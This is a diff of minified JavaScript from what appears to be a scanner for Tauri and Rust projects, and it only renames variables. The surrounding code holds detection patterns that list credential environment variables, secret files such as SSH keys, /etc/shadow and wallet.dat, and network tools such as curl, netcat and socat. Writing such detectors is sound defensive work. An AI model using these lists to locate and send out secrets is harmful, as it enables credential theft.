@@ -2170,8 +2170,8 @@ currentFieldId]??null,start:cursor.startIndex,end:cursor.endIndex,children:[]}),
 for(;;){let isBelow=!1;if(cursor.nodeIsNamed){const node=made2();if(count+=1,count>TREE_BOUNDS.nodes)return null;REMARKS.has(node.kind)||(parents.at(-1)?.children.
 push(node),parents.length>=TREE_BOUNDS.depth?node.kind=TOO_DEEP:isBelow=cursor.gotoFirstChild(),isBelow&&parents.push(node))}if(!isBelow)for(;!cursor.gotoNextSibling();){
 if(parents.length<=1||!cursor.gotoParent())return root;parents.pop()}}}function inFolder(folder,name){return folder===""?name:`${folder}/${name}`}function joined(folder,path){
-if(/^(?:[/\\]|[A-Za-z]:)/.test(path))return null;const parts=folder===""?[]:folder.split("/");for(const part of path.replaceAll("\\","/").split("/"))if(!(part===
-""||part===".")){if(part!=="..")parts.push(part);else if(parts.pop()===void 0)return null}return parts.join("/")}function folderOf(path){const slash=path.lastIndexOf(
+if(/^(?:[/\\]|[A-Za-z]:)/.test(path))return null;const parts2=folder===""?[]:folder.split("/");for(const part of path.replaceAll("\\","/").split("/"))if(!(part===
+""||part===".")){if(part!=="..")parts2.push(part);else if(parts2.pop()===void 0)return null}return parts2.join("/")}function folderOf(path){const slash=path.lastIndexOf(
 "/");return slash<0?"":path.slice(0,slash)}function baseName(path){return path.slice(path.lastIndexOf("/")+1)}function withAncestors(folder){const result2=[folder];
 for(let at2=folder;at2!=="";)at2=folderOf(at2),result2.push(at2);return result2}function below(folder,path){return folder===""?path:path.startsWith(`${folder}/`)?
 path.slice(folder.length+1):void 0}var CONFIG_NAMES=["tauri.conf.json","tauri.conf.json5","Tauri.toml"];function discoverApps(paths3){const configOf=new Map;for(const path of paths3){
@@ -2218,26 +2218,27 @@ found12.push([from,to])}return found12}function complement(set){const found12=[]
 to+1;return next2<=1114111&&found12.push([next2,1114111]),found12}var EMPTY={kind:"sequence",parts:[]},NO_TEXT={kind:"choice",parts:[]},ANY_CHARACTER={kind:"cha\
 racter",of:ANY},ANY_TEXT=many(ANY_CHARACTER);function character(of2){return{kind:"character",of:of2}}function literal(text3){return sequenceOf(Array.from(text3,
 each=>LETTERS[codeOf(each)]??single(codeOf(each))))}function single(code2){return character([[code2,code2]])}var LETTERS=Array.from({length:128},(_3,code2)=>single(
-code2));function sequence(...parts){return sequenceOf(parts)}function sequenceOf(parts){return parts.length===1?parts[0]:{kind:"sequence",parts}}function choice(...parts){
-return parts.length===1?parts[0]:{kind:"choice",parts}}function optional(part){return repeated(part,0,1)}function many(part){return repeated(part,0,Number.POSITIVE_INFINITY)}
-function atLeastOne(part){return repeated(part,1,Number.POSITIVE_INFINITY)}function repeated(part,least,most){return part.kind==="repeated"&&isEndless(part)&&(most===
-Number.POSITIVE_INFINITY||most===1)&&least<=1?{...part,least:Math.min(part.least,least)}:{kind:"repeated",part,least,most}}function isEndless({least,most}){return least<=
-1&&most===Number.POSITIVE_INFINITY}function look(at2,holds6){return{kind:"look",look:{at:at2,holds:holds6}}}function words(language){return{kind:"language",language}}
-function backwards(expression){switch(expression.kind){case"sequence":return{...expression,parts:expression.parts.map(backwards).reverse()};case"choice":return{
-...expression,parts:expression.parts.map(backwards)};case"repeated":return{...expression,part:backwards(expression.part)};case"look":{const{at:at2,holds:holds6}=expression.
-look;return look(at2,(before2,after2)=>holds6(after2,before2))}case"character":return expression;case"language":throw new Error("a language is turned round befo\
-re it is one")}}var RefusedExpression=class extends Error{},UnreadExpression=class extends Error{},SPACE=new RegExp("^\\p{White_Space}$","u"),RustText=class{ignoresSpace=!1;#characters;#at=0;constructor(text3){
-this.#characters=Array.from(text3)}peek(after2=0){return this.#characters[this.#at+after2]??""}get isAtEnd(){return this.#at>=this.#characters.length}get at(){return this.#at}set at(place){
-this.#at=place}take(){const character2=this.peek();return this.#at+=1,character2}takeIf(text3){const is=Array.from(text3).every((character2,i2)=>this.peek(i2)===
-character2);return is&&(this.#at+=text3.length),is}takeAndSkip(){const character2=this.take();return this.skip(),character2}skip(){for(;this.ignoresSpace&&(this.
-isSpace()||this.peek()==="#");){const isComment4=this.take()==="#";for(;isComment4&&!this.isAtEnd&&this.take()!==`
+code2));function sequence(...parts2){return sequenceOf(parts2)}function sequenceOf(parts2){return parts2.length===1?parts2[0]:{kind:"sequence",parts:parts2}}function choice(...parts2){
+return parts2.length===1?parts2[0]:{kind:"choice",parts:parts2}}function optional(part){return repeated(part,0,1)}function many(part){return repeated(part,0,Number.
+POSITIVE_INFINITY)}function atLeastOne(part){return repeated(part,1,Number.POSITIVE_INFINITY)}function repeated(part,least,most){return part.kind==="repeated"&&
+isEndless(part)&&(most===Number.POSITIVE_INFINITY||most===1)&&least<=1?{...part,least:Math.min(part.least,least)}:{kind:"repeated",part,least,most}}function isEndless({
+least,most}){return least<=1&&most===Number.POSITIVE_INFINITY}function look(at2,holds6){return{kind:"look",look:{at:at2,holds:holds6}}}function words(language){
+return{kind:"language",language}}function backwards(expression){switch(expression.kind){case"sequence":return{...expression,parts:expression.parts.map(backwards).
+reverse()};case"choice":return{...expression,parts:expression.parts.map(backwards)};case"repeated":return{...expression,part:backwards(expression.part)};case"lo\
+ok":{const{at:at2,holds:holds6}=expression.look;return look(at2,(before3,after2)=>holds6(after2,before3))}case"character":return expression;case"language":throw new Error(
+"a language is turned round before it is one")}}var RefusedExpression=class extends Error{},UnreadExpression=class extends Error{},SPACE=new RegExp("^\\p{White_S\
+pace}$","u"),RustText=class{ignoresSpace=!1;#characters;#at=0;constructor(text3){this.#characters=Array.from(text3)}peek(after2=0){return this.#characters[this.#at+
+after2]??""}get isAtEnd(){return this.#at>=this.#characters.length}get at(){return this.#at}set at(place){this.#at=place}take(){const character2=this.peek();return this.#at+=
+1,character2}takeIf(text3){const is=Array.from(text3).every((character2,i2)=>this.peek(i2)===character2);return is&&(this.#at+=text3.length),is}takeAndSkip(){const character2=this.
+take();return this.skip(),character2}skip(){for(;this.ignoresSpace&&(this.isSpace()||this.peek()==="#");){const isComment4=this.take()==="#";for(;isComment4&&!this.
+isAtEnd&&this.take()!==`
 `;);}}isSpace(){return SPACE.test(this.peek())}peekBehindSpace(){if(!this.ignoresSpace)return this.peek(1);let isComment4=!1;for(let after2=1;this.peek(after2)!==
 "";after2+=1){const character2=this.peek(after2);if(!SPACE.test(character2))if(!isComment4&&character2==="#")isComment4=!0;else if(isComment4&&character2===`
 `)isComment4=!1;else return character2}return this.peek(1)}},OutOfWork=class extends Error{constructor(most){super(`more than ${most} steps of work`),this.name=
 "OutOfWork"}},Work=class{#most;#taken=0;constructor(most){this.#most=most}get taken(){return this.#taken}spend(steps){if(this.#taken+=steps,this.#taken>this.#most)
 throw new OutOfWork(this.#most)}};function alphabetOf(sets,work){const starts3=startsOf(sets),classes=new Int32Array(starts3.length),cutBy=[-1],part=[0];for(const[
-number,set]of sets.entries()){let i2=0;for(const[from,to]of set)for(i2=stretchFrom(i2,starts3,from);(starts3[i2]??Number.POSITIVE_INFINITY)<=to;i2+=1){const before2=classes[i2]??
-0;cutBy[before2]!==number&&(cutBy[before2]=number,part[before2]=cutBy.push(-1)-1),classes[i2]=part[before2]??0,work.spend(1)}}return inOrderOfMeeting(starts3,classes,
+number,set]of sets.entries()){let i2=0;for(const[from,to]of set)for(i2=stretchFrom(i2,starts3,from);(starts3[i2]??Number.POSITIVE_INFINITY)<=to;i2+=1){const before3=classes[i2]??
+0;cutBy[before3]!==number&&(cutBy[before3]=number,part[before3]=cutBy.push(-1)-1),classes[i2]=part[before3]??0,work.spend(1)}}return inOrderOfMeeting(starts3,classes,
 work)}function inOrderOfMeeting(starts3,classes,work){work.spend(starts3.length);const numbers=[];let size=0;for(let i2=0;i2<classes.length;i2+=1){const its=classes[i2]??
 0,number=numbers[its]??size;number===size&&(numbers[its]=number,size+=1),classes[i2]=number}return{starts:starts3,classes,size}}function startsOf(sets){const distinct7=new Set(
 sets);let count=1;for(const set of distinct7)count+=2*set.length;const places2=new Int32Array(count);let at2=1;for(const set of distinct7)for(const[from,to]of set)
@@ -2250,8 +2251,8 @@ places2[kept]=Math.min(first,second),first<=second&&(i2+=1),second<=first&&(j3+=
 0,starts3.length-1,starts3,code2)}function stretchFrom(from,starts3,code2){const last=starts3.length-1;let step=1;for(;from+step<last&&(starts3[from+step]??0)<=
 code2;)step*=2;return stretchWithin(Math.min(from+(step>>1),last),Math.min(from+step,last),starts3,code2)}function stretchWithin(first,last,starts3,code2){let[low,
 high]=[first,last];for(;low<high;){const middle=low+high+1>>1;(starts3[middle]??0)<=code2?low=middle:high=middle-1}return low}function commonAlphabet(alphabets,work){
-const starts3=together(alphabets),classes=new Int32Array(starts3.length);let size=1;for(const alphabet of alphabets){work.spend(starts3.length);const parts=Array.
-from({length:size},()=>[]);size=0,eachStretch(starts3,alphabet,(i2,its)=>{const known13=parts[classes[i2]??0],number=known13[its]??size;number===size&&(known13[its]=
+const starts3=together(alphabets),classes=new Int32Array(starts3.length);let size=1;for(const alphabet of alphabets){work.spend(starts3.length);const parts2=Array.
+from({length:size},()=>[]);size=0,eachStretch(starts3,alphabet,(i2,its)=>{const known13=parts2[classes[i2]??0],number=known13[its]??size;number===size&&(known13[its]=
 number,size+=1),classes[i2]=number})}return{starts:starts3,classes,size}}function classesWithin(finer,alphabet,work){work.spend(finer.starts.length);const found12=new Int32Array(
 finer.size);return eachStretch(finer.starts,alphabet,(i2,its)=>{found12[finer.classes[i2]??0]=its}),found12}function joined2(alphabet,numbers){const starts3=[],
 classes=[];for(const[i2,start]of alphabet.starts.entries()){const number=numbers[alphabet.classes[i2]??0]??0;classes.at(-1)!==number&&(starts3.push(start),classes.
@@ -2346,10 +2347,10 @@ if(!isSet)return{};throw new UnreadExpression("the flag R");default:throw new Re
 "\\A"||name==="^"&&!flags2.lines)return AT_START;if(name==="\\z"||name==="$"&&!flags2.lines)return AT_END;if(name==="^")return AT_LINE_START;if(name==="$")return AT_LINE_END;
 if(name==="\\B"&&!flags2.unicode)throw new UnreadExpression("\\B without the flag u");const holds6=WORDS[name];if(holds6===void 0)throw new RefusedExpression(name);
 return atWords(wordCharacters(flags2,work),holds6)}var LINE_FEED=oneOf(`
-`),AT_START=look(LINE_FEED,before2=>before2==="edge"),AT_END=look(LINE_FEED,(_3,after2)=>after2==="edge"),AT_LINE_START=look(LINE_FEED,before2=>before2!=="out"),
-AT_LINE_END=look(LINE_FEED,(_3,after2)=>after2!=="out"),WORDS={"\\b":(before2,after2)=>before2==="in"!=(after2==="in"),"\\B":(before2,after2)=>before2==="in"==(after2===
-"in"),"\\<":(before2,after2)=>before2!=="in"&&after2==="in","\\>":(before2,after2)=>before2==="in"&&after2!=="in","\\b{start}":(before2,after2)=>before2!=="in"&&
-after2==="in","\\b{end}":(before2,after2)=>before2==="in"&&after2!=="in","\\b{start-half}":before2=>before2!=="in","\\b{end-half}":(_3,after2)=>after2!=="in"},atWords=(of2,holds6)=>{
+`),AT_START=look(LINE_FEED,before3=>before3==="edge"),AT_END=look(LINE_FEED,(_3,after2)=>after2==="edge"),AT_LINE_START=look(LINE_FEED,before3=>before3!=="out"),
+AT_LINE_END=look(LINE_FEED,(_3,after2)=>after2!=="out"),WORDS={"\\b":(before3,after2)=>before3==="in"!=(after2==="in"),"\\B":(before3,after2)=>before3==="in"==(after2===
+"in"),"\\<":(before3,after2)=>before3!=="in"&&after2==="in","\\>":(before3,after2)=>before3==="in"&&after2!=="in","\\b{start}":(before3,after2)=>before3!=="in"&&
+after2==="in","\\b{end}":(before3,after2)=>before3==="in"&&after2!=="in","\\b{start-half}":before3=>before3!=="in","\\b{end-half}":(_3,after2)=>after2!=="in"},atWords=(of2,holds6)=>{
 const known13=LOOKS.get(of2)??new Map;LOOKS.set(of2,known13);const found12=known13.get(holds6)??look(of2,holds6);return known13.set(holds6,found12),found12},LOOKS=new WeakMap,
 MOST_BYTES=5e6;function isAboutTooLarge(expression){return bytesFor(expression)>MOST_BYTES}function bytesFor(expression){switch(expression.kind){case"character":{
 const isAscii2=expression.of.every(([,to])=>to<128);return 32+75*expression.of.length+(isAscii2?0:1e3)}case"sequence":case"choice":return expression.parts.reduce(
@@ -2430,8 +2431,8 @@ member(scope,"allow")),deny:entries(denied2),deniedAt:(denied2??scope).at}}var B
     base64 base64ct base32 data-encoding duct xshell cmd_lib subprocess tokio rustls native-tls openssl socket2`},KNOWN_CRATES=new Map(Object.entries(BY_CLASS).
 flatMap(([known13,names4])=>names4.trim().split(/\s+/).map(name=>[name,known13])));function callable(manifest2,table2){const found12=new Map,targets3=member(manifest2,
 "target"),platforms=targets3?.kind==="object"?[...targets3.entries.values()]:[];for(const each of[manifest2,...platforms.map(entry=>entry.value)]){const own=member(
-each,table2)??member(each,table2.replace("-","_"));if(own?.kind==="object")for(const[name,{value}]of own.entries){const known13=classOf2(name,value),before2=found12.
-get(inCode(name));found12.set(inCode(name),before2===void 0||before2===known13?known13:"unknown")}}return found12}function classOf2(name,value){return["git","pa\
+each,table2)??member(each,table2.replace("-","_"));if(own?.kind==="object")for(const[name,{value}]of own.entries){const known13=classOf2(name,value),before3=found12.
+get(inCode(name));found12.set(inCode(name),before3===void 0||before3===known13?known13:"unknown")}}return found12}function classOf2(name,value){return["git","pa\
 th","registry","registry-index"].some(key3=>member(value,key3)!==void 0)?"unknown":KNOWN_CRATES.get(asString(member(value,"package"))??name)??"unknown"}function inCode(name){
 return name.replaceAll("-","_")}var createHash=(...given2)=>process.getBuiltinModule("node:crypto").createHash(...given2),LONGEST=4e3,OPENING="([{",CLOSING=")]}";
 function expressionAt(text3,offset,language){const piece=text3.slice(offset,offset+LONGEST),quotes=language==="js"?"\"'`":'"';let[depth,result2]=[0,""];for(let at2=0;at2<
@@ -2441,8 +2442,8 @@ piece,at2);result2+=`"${piece.slice(at2+1,end)}"`,at2=end;continue}if(OPENING.in
 `&&language==="js"&&!goesOn(piece,at2,result2))break;CLOSING.includes(sign)?result2=`${result2.replace(/,$/,"")}${sign}`:/\s/.test(sign)||(result2+=sign)}return result2}
 function endOfComment(piece,at2){if(piece.startsWith("//",at2)){const end2=piece.indexOf(`
 `,at2);return end2<0?piece.length:end2}if(!piece.startsWith("/*",at2))return null;const end=piece.indexOf("*/",at2+2);return end<0?piece.length:end+2}function endOfText(piece,start){
-const quote=piece[start];for(let at2=start+1;at2<piece.length;at2+=1)if(piece[at2]==="\\")at2+=1;else if(piece[at2]===quote)return at2;return piece.length}function goesOn(piece,at2,before2){
-return/^\s*(?:\.|\?\.|[?:+*/%=&|(])/.test(piece.slice(at2,at2+200))||/[=+\-*/%&|?:({[.]$/.test(before2)}function textsIn(expression){return[...expression.matchAll(
+const quote=piece[start];for(let at2=start+1;at2<piece.length;at2+=1)if(piece[at2]==="\\")at2+=1;else if(piece[at2]===quote)return at2;return piece.length}function goesOn(piece,at2,before3){
+return/^\s*(?:\.|\?\.|[?:+*/%=&|(])/.test(piece.slice(at2,at2+200))||/[=+\-*/%&|?:({[.]$/.test(before3)}function textsIn(expression){return[...expression.matchAll(
 /"((?:[^"\\]|\\.)*)"/g)].map(([,text3=""])=>text3).join(" ")}function hashOf(text3){return createHash("sha256").update(text3).digest("hex")}var SECRET=/^(?:HOME|USERPROFILE|HOMEPATH|HOMEDRIVE|APPDATA|LOCALAPPDATA|CARGO_HOME|GNUPGHOME|NETRC|XDG_CONFIG_HOME|USER|USERNAME|LOGNAME)$|TOKEN|SECRET|PASSW|PASSPHRASE|CREDENTIAL|PRIVATE_?KEY|API_?KEY|ACCESS_?KEY|SIGNING_?KEY|^SSH_|^AWS_(?!LC_)|^AZURE_|^GITHUB_|^GITLAB_|_AUTH$/i,
 SECRET_FILE=/(?:^|[/\\~])\.(?:ssh|aws|gnupg|netrc|npmrc|pypirc|git-credentials|docker|kube|azure)(?:[/\\]|$)|\.cargo[/\\](?:credentials|config)|(?:^|[/\\])id_(?:rsa|dsa|ecdsa|ed25519)\b|^\/etc\/(?:passwd|shadow)|\/proc\/[^/]+\/(?:environ|mem)|(?:login|user)\.keychain|Cookies$|wallet\.dat$/;
 function isSecretName(name){return SECRET.test(name)}function isSecretPath(text3){return SECRET_FILE.test(text3)}var NETWORK=/^(?:curl|wget|aria2c|iwr|irm|invoke-webrequest|invoke-restmethod|start-bitstransfer|certutil|bitsadmin|ssh|scp|sftp|nc|ncat|netcat|socat|telnet|ftp|tftp|dig|wget2|axel|lynx|w3m|xhs?|https?|httpie|nslookup|aws|gcloud|gsutil|az|rclone|s3cmd|ngrok|cloudflared)$/i,
@@ -2481,7 +2482,7 @@ text3=main===null?void 0:texts2.get(main);return{step,class:strongest2,hash:hash
 texts2),text:text3!==void 0&&Buffer.byteLength(text3)<=LONGEST_TEXT?text3:null}}function stronger(one3,other){return CODE_CLASSES.indexOf(other)>CODE_CLASSES.indexOf(
 one3)?other:one3}function hashOf2(texts2){const hash=createHash2("sha256");for(const[path,text3]of[...texts2].sort(([one3],[other])=>one3<other?-1:1))hash.update(
 JSON.stringify([path,text3.length])).update(text3);return hash.digest("hex")}function tellingLines(evidence2,texts2){const found12=new Map;for(const{path,offset}of evidence2){
-if(found12.size>=MOST_LINES)break;const telling3=lineAt(path,texts2.get(path)??"",offset);found12.set(JSON.stringify([path,telling3.line]),telling3)}return[...found12.
+if(found12.size>=MOST_LINES)break;const telling2=lineAt(path,texts2.get(path)??"",offset);found12.set(JSON.stringify([path,telling2.line]),telling2)}return[...found12.
 values()]}function lineAt(path,text3,offset){const start=text3.lastIndexOf(`
 `,offset-1)+1,end=text3.indexOf(`
 `,offset),line=text3.slice(0,start).split(`
@@ -2575,15 +2576,15 @@ null||isTestOnly(source,keyword))return[];const offset=tokens[keyword]?.start??0
 startsWith("$")?[{offset,paths:null}]:[{offset,paths:[`${own}${inner}${name}.rs`,`${own}${inner}${name}/mod.rs`]}]}),...includes(source,folder)]}function includes(source,folder){
 const{tokens}=source;return tokens.flatMap((token2,at2)=>{if(!(token2.kind==="word"&&token2.text==="include"&&isMark(tokens[at2+1],"!"))||tokens[at2+2]?.kind!==
 "open")return[];const[first]=argumentsAt(source,at2+2),literal3=first!==void 0&&first.to-first.from===1?tokens[first.from]:void 0,paths3=literal3?.kind==="text"?
-pathsOf(folder,literal3.text):null;return[{offset:token2.start,paths:paths3}]})}function pathsOf(folder,written6){const parts=[];if(/^[/\\]|^[a-z]:/i.test(written6))
-return null;for(const part of`${folder}${written6}`.replaceAll("\\","/").split("/"))if(part===".."){if(parts.pop()===void 0)return null}else part!=="."&&part!==
-""&&parts.push(part);return[parts.join("/")]}function pathBefore(source,keyword){const{tokens}=source;let found12;for(const{from,to}of attributesBefore(source,keyword))
-for(let at2=from;at2<to;at2+=1){if(!isKeyword(tokens[at2],"path")||!isMark(tokens[at2+1],"="))continue;const value=tokens[at2+2];found12=value?.kind==="text"&&found12===
-void 0?value.text:null}return found12}function isTestOnly(source,keyword){return attributesBefore(source,keyword).some(({from,to})=>{const words4=source.tokens.
-slice(from,to).map(({text:text3})=>text3);return words4.join(" ")==="cfg ( test )"||words4.join(" ")==="test"})}function isInUse({file:file2,at:at2}){const{tokens}=file2.
-source;let from=at2;for(let open=tokens[at2]?.parent??-1;isOpen(tokens[open],"{")&&!(!isMark(tokens[open-1],"::")&&!isKeyword(tokens[open-1],"use"));open=tokens[open]?.
-parent??-1)from=open-1;for(;from>=0&&(isMark(tokens[from],"::")||tokens[from]?.kind==="word"&&!isKeyword(tokens[from],"use"));)from-=1;return isKeyword(tokens[from],
-"use")}function enclosingModules(items,index){return items.modules.flatMap(({name,body})=>body!==null&&body.from<=index&&index<body.to?[name]:[])}function reachedFiles(roots,texts2){
+pathsOf(folder,literal3.text):null;return[{offset:token2.start,paths:paths3}]})}function pathsOf(folder,written6){const parts2=[];if(/^[/\\]|^[a-z]:/i.test(written6))
+return null;for(const part of`${folder}${written6}`.replaceAll("\\","/").split("/"))if(part===".."){if(parts2.pop()===void 0)return null}else part!=="."&&part!==
+""&&parts2.push(part);return[parts2.join("/")]}function pathBefore(source,keyword){const{tokens}=source;let found12;for(const{from,to}of attributesBefore(source,
+keyword))for(let at2=from;at2<to;at2+=1){if(!isKeyword(tokens[at2],"path")||!isMark(tokens[at2+1],"="))continue;const value=tokens[at2+2];found12=value?.kind===
+"text"&&found12===void 0?value.text:null}return found12}function isTestOnly(source,keyword){return attributesBefore(source,keyword).some(({from,to})=>{const words4=source.
+tokens.slice(from,to).map(({text:text3})=>text3);return words4.join(" ")==="cfg ( test )"||words4.join(" ")==="test"})}function isInUse({file:file2,at:at2}){const{
+tokens}=file2.source;let from=at2;for(let open=tokens[at2]?.parent??-1;isOpen(tokens[open],"{")&&!(!isMark(tokens[open-1],"::")&&!isKeyword(tokens[open-1],"use"));open=
+tokens[open]?.parent??-1)from=open-1;for(;from>=0&&(isMark(tokens[from],"::")||tokens[from]?.kind==="word"&&!isKeyword(tokens[from],"use"));)from-=1;return isKeyword(
+tokens[from],"use")}function enclosingModules(items,index){return items.modules.flatMap(({name,body})=>body!==null&&body.from<=index&&index<body.to?[name]:[])}function reachedFiles(roots,texts2){
 const files=[],missing2=[],seen=new Set,waiting=roots.map(path=>({path,isRoot:!0}));for(let next2=waiting.pop();next2!==void 0;next2=waiting.pop()){const text3=texts2.
 get(next2.path);if(text3===void 0||seen.has(next2.path))continue;seen.add(next2.path);const file2=rustFile(next2.path,text3);files.push(file2);for(const named12 of namedFiles(
 file2,next2.isRoot)){const found12=named12.paths?.find(path=>texts2.has(path));found12===void 0?missing2.push({at:file2,named:named12}):waiting.push({path:found12,
@@ -2607,8 +2608,8 @@ expect"&&isMark(tokens[at2-1],".")?after(tokens,at2+1):void 0}function isSetting
 tokens[at2+1]?.kind!=="close"||!isMark(tokens[at2+2],".")?!1:/^is_(?:err|none|ok|some)$/.test(tokens[at2+3]?.text??"")}function boundTo({file:file2},at2,{localAt,
 globals,fields:fields3}){const{tokens}=file2.source,name=tokens[at2]?.text??"",isPath=isMark(tokens[at2+1],"::");if(isPath&&!isMark(tokens[at2+2],"<"))return[];
 const isCall=isPath||isOpen(tokens[at2+1],"(");return isMark(tokens[at2-1],".")&&!isCall?fields3.get(name)??[]:(isCall?void 0:localAt(file2,at2,name))??globals.
-get(name)??[]}function isLoose(tokens,at2){const[before2,token2,next2]=[tokens[at2-1],tokens[at2],tokens[at2+1]];return!/^[a-z_]/.test(token2?.text??"")||KEYWORDS.
-has(token2?.text??"")||[".","::"].some(mark=>isMark(before2,mark))||before2?.kind==="lifetime"?!1:!isOpen(next2,"(")&&!["::","!",":"].some(mark=>isMark(next2,mark))}
+get(name)??[]}function isLoose(tokens,at2){const[before3,token2,next2]=[tokens[at2-1],tokens[at2],tokens[at2+1]];return!/^[a-z_]/.test(token2?.text??"")||KEYWORDS.
+has(token2?.text??"")||[".","::"].some(mark=>isMark(before3,mark))||before3?.kind==="lifetime"?!1:!isOpen(next2,"(")&&!["::","!",":"].some(mark=>isMark(next2,mark))}
 var KEYWORDS=new Set("as async await box break const continue crate dyn else false fn for if impl in let loop match mod move mut ref return self static super tr\
 ue type unsafe use where while _ str u8 u32 u64 usize i32".split(" "));function namedInside(text3,code2,at2,{localAt,globals}){return[...text3.matchAll(/\{([a-z_]\w*)/gi)].
 map(([,name=""])=>name).flatMap(name=>localAt(code2.file,at2,name)??globals.get(name)??[])}var HANDED_ON=/^cargo::?rustc-env=([A-Z_][A-Z0-9_]*)=\{\w*\}$/,INSTRUCTION=/^cargo::?[a-z-]+=/;
@@ -2626,15 +2627,15 @@ if(!isMark(tokens[at2],"#"))return;const open=tokens[at2+1]?.kind==="word"?at2+2
 if(!isMark(tokens[at2+1],"!")||tokens[at2+2]?.kind!=="open")return;let root=at2;for(;isMark(tokens[root-1],"::")&&tokens[root-2]?.kind==="word";)root-=2;return root===
 at2&&!isMark(tokens[at2-1],"::")||/^(?:crate|self|super|quote|syn|proc_macro|devise)$/.test(tokens[root]?.text??"")?at2+2:void 0}function boundAt(tokens,at2){const token2=tokens[at2];
 return isKeyword(token2,"let")?letAt(tokens,at2):isKeyword(token2,"for")?loopAt(tokens,at2):isKeyword(token2,"match")?matchAt(tokens,at2):isMark(token2,"|")?closureAt(
-tokens,at2):token2?.kind==="word"?changeAt(tokens,at2):[]}function letAt(tokens,at2){const isCondition2=[tokens[at2-1]].some(before2=>isKeyword(before2,"if")||isKeyword(
-before2,"while")||isMark(before2,"&")),equals=find(tokens,at2+1,token2=>isMark(token2,"=")||isMark(token2,";")),end=find(tokens,equals+1,token2=>isMark(token2,"\
+tokens,at2):token2?.kind==="word"?changeAt(tokens,at2):[]}function letAt(tokens,at2){const isCondition2=[tokens[at2-1]].some(before3=>isKeyword(before3,"if")||isKeyword(
+before3,"while")||isMark(before3,"&")),equals=find(tokens,at2+1,token2=>isMark(token2,"=")||isMark(token2,";")),end=find(tokens,equals+1,token2=>isMark(token2,"\
 ;")||isCondition2&&isOpen(token2,"{"));return[{names:patternNames(tokens,{from:at2+1,to:equals}),stretch:{from:equals+1,to:end}}]}function loopAt(tokens,at2){const middle=find(
 tokens,at2+1,token2=>isKeyword(token2,"in")||isOpen(token2,"{"));if(!isKeyword(tokens[middle],"in"))return[];const end=find(tokens,middle+1,token2=>isOpen(token2,
 "{"));return[{names:patternNames(tokens,{from:at2+1,to:middle}),stretch:{from:middle+1,to:end}}]}function matchAt(tokens,at2){const open=find(tokens,at2+1,token2=>isOpen(
 token2,"{")),inside=insideOf(tokens,open),names4=[];for(let from=inside.from;from<inside.to;){const arrow=find(tokens,from,token2=>isMark(token2,"=>"));if(arrow>=
 inside.to)break;names4.push(...patternNames(tokens,{from,to:arrow})),from=isOpen(tokens[arrow+1],"{")?after(tokens,arrow+1):find(tokens,arrow+1,token2=>isMark(token2,
-","))+1}return[{names:names4,stretch:{from:at2+1,to:open}}]}function closureAt(tokens,at2){const before2=tokens[at2-1],end=before2?.kind==="open"||isMark(before2,
-",")||isMark(before2,"=")||isKeyword(before2,"move")?find(tokens,at2+1,token2=>isMark(token2,"|")):at2,start=statementStart(tokens,at2);return!isMark(tokens[end],
+","))+1}return[{names:names4,stretch:{from:at2+1,to:open}}]}function closureAt(tokens,at2){const before3=tokens[at2-1],end=before3?.kind==="open"||isMark(before3,
+",")||isMark(before3,"=")||isKeyword(before3,"move")?find(tokens,at2+1,token2=>isMark(token2,"|")):at2,start=statementStart(tokens,at2);return!isMark(tokens[end],
 "|")||end===at2||start===void 0?[]:[{names:patternNames(tokens,{from:at2+1,to:end}),stretch:{from:start,to:at2}}]}function changeAt(tokens,at2){const names4=[tokens[at2]?.
 text??""],equals=tokens[at2+1]?.kind==="mark"&&isMark(tokens[at2+2],"=")?at2+2:at2+1;if(isMark(tokens[equals],"=")&&!isMark(tokens[at2-1],".")){const end=find(tokens,
 equals+1,token2=>isMark(token2,";")||isMark(token2,","));return[{names:names4,stretch:{from:equals+1,to:end}}]}return!(isMark(tokens[at2+1],".")&&CHANGING.test(
@@ -2663,9 +2664,9 @@ files.flatMap(({items})=>items.functions.map(({name})=>name))),of2=new Map,hande
 token2]of tokens.entries())if(!(token2.kind!=="word"||!names4.has(token2.text)||isKeyword(tokens[at2-1],"fn")))if(isOpen(tokens[at2+1],"(")){const given2=argumentsAt(
 file2.source,at2+1).map(stretch=>({file:file2,stretch})),known13=of2.get(token2.text);known13===void 0?of2.set(token2.text,[given2]):known13.push(given2)}else isMentioned(
 tokens,at2)&&!isPlainUse(file2,at2)&&handedOn3.add(token2.text)}return{of:of2,handedOn:handedOn3}}function isPlainUse(file2,at2){return isInUse({file:file2,at:at2})&&
-!isKeyword(file2.source.tokens[at2+1],"as")}function isMentioned(tokens,at2){const[before2,next2]=[tokens[at2-1],tokens[at2+1]];return isMark(next2,"!")&&tokens[at2+
-2]?.kind==="open"||isMark(next2,"::")||isMark(next2,":")||isMark(next2,".")||isMark(before2,".")?!1:isMark(before2,"&")||isMark(before2,"::")?!0:before2?.kind===
-"open"||[",","=","|","=>"].some(mark=>isMark(before2,mark))}function parametersOf(file2,item,calls){const found12=new Map;for(const[place,names4]of parametersIn(
+!isKeyword(file2.source.tokens[at2+1],"as")}function isMentioned(tokens,at2){const[before3,next2]=[tokens[at2-1],tokens[at2+1]];return isMark(next2,"!")&&tokens[at2+
+2]?.kind==="open"||isMark(next2,"::")||isMark(next2,":")||isMark(next2,".")||isMark(before3,".")?!1:isMark(before3,"&")||isMark(before3,"::")?!0:before3?.kind===
+"open"||[",","=","|","=>"].some(mark=>isMark(before3,mark))}function parametersOf(file2,item,calls){const found12=new Map;for(const[place,names4]of parametersIn(
 file2,item).entries()){const given2=(calls.of.get(item.name)??[]).flatMap(each=>each[place]??[]);for(const name of names4)for(const code2 of given2)add(found12,
 name,code2)}return found12}function parametersIn(file2,{parameters}){const{tokens}=file2.source,all=argumentsAt(file2.source,parameters.from-1),isMethod2=tokens.
 slice(all[0]?.from,all[0]?.to).some(token2=>isKeyword(token2,"self"));return all.slice(isMethod2?1:0).map(each=>patternNames(tokens,each))}function ownMacros(files,callable2){
@@ -2725,8 +2726,8 @@ function isInAttribute({source},at2){const{tokens}=source;for(let open=tokens[at
 return isMark(tokens[isMark(tokens[open-1],"!")?open-2:open-1],"#");return!1}function evidence(of2,{file:file2,at:at2}){return{class:of2,path:file2.path,offset:file2.
 source.tokens[at2]?.start??0}}var REMARKS3=/^(?:allow|cfg|deny|doc|expect|forbid|warn)$/;function isTool(tokens,at2){return/^(?:clippy|diagnostic|miri|rust_analyzer|rustfmt)$/.
 test(tokens[at2]?.text??"")&&isOpen(tokens[at2-1],"[")&&isMark(tokens[at2+1],"::")}function isRemark(tokens,{from,to}){for(let at2=from;at2<to;at2+=1){const[token2,
